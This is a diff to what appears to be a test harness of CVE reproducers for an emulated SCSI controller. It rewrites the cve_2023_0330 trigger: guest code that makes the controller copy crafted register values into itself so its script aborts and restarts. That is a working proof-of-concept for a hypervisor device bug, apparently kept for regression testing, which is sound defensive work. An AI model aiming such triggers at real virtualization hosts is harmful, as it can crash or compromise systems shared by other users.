@@ -8,7 +8,8 @@ BACKENDS = ("-blockdev driver=null-co,node-name=disk,read-zeroes=on",)
 # CTEST4 to CTEST6
 PROBE = 1, 0x20
 
-DSP = 0x2c
+ISTAT, DSP = 0x14, 0x2c
+ABORT = 0x80
 JUMP = 0x80080000
 MOVE = 0xc0000000
 
@@ -22,9 +23,12 @@ def cve_2019_12068(guest):
 
 
 def cve_2023_0330(guest):
-    """The script writes its own address to the register that starts it."""
+    """The script copies what is in memory to the controller's registers: that ends the
+    script, and starts it again."""
     bar = guest.device.bars[1]
-    place = guest.alloc(16)
-    guest.put(place, struct.pack("<IIII", MOVE | 4, place + 12, bar.address + DSP, place))
-    bar.write(DSP, place)
+    script = guest.alloc(12)
+    registers = struct.pack("<I", ABORT).ljust(DSP - ISTAT, b"\0") + struct.pack("<I", script)
+    source = guest.memory(registers)
+    guest.put(script, struct.pack("<III", MOVE | len(registers), source, bar.address + ISTAT))
+    bar.write(DSP, script)
     guest.wait(0.1)
